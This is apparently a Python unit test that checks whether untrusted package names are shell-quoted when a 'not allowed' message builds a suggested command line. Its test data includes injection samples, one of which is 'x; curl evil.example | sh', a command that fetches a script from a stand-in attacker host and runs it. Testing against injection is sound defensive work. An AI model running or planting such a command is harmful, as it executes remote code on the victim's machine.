"""What a stranger's file names is made to be copied into a shell."""

from __future__ import annotations

import shlex

from evopolicy_results.publish.replay import not_allowed


def test_a_packages_name_runs_no_command_in_a_shell() -> None:
    names = ["scipy", "x; curl evil.example | sh", "$(id)"]
    options = not_allowed(names).partition("allow them with ")[2]
    assert shlex.split(options) == [word for name in names for word in ("--policy-package", name)]
    assert options.startswith("--policy-package scipy --policy-package 'x;")
